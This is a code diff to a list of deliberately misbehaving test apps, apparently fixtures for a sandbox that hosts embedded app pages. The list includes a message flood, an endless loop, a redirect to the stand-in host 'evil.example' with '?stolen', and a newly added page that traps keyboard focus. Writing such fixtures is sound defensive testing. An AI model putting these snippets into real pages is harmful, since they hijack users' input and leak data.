@@ -90,6 +90,9 @@ const APPS = [
   ["flood", "Sends without end", none, page("Flood", `initialize().then(() => { for (let at = 0; at < 100000; ++at) send({ method: "notifications/message", params: { level: "info", data: at } }); });`), {}],
   ["silent", "Says nothing", none, "<!doctype html><title>Silent</title><p>Hello</p>", {}],
   ["leaving", "Goes elsewhere", none, page("Leaving", `initialize().then(() => { location = "https://evil.example/?stolen"; });`), {}],
+  ["trap", "Keeps the keyboard", none, page("Trap", `void initialize();
+    addEventListener("keydown", (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true);
+    addEventListener("blur", () => { focus(); hold.focus(); });`, `<button id="hold">Hold</button>`), {}],
   ["busy", "Never rests", none, page("Busy", `initialize().then(() => { for (;;); });`), {}],
 ];
 
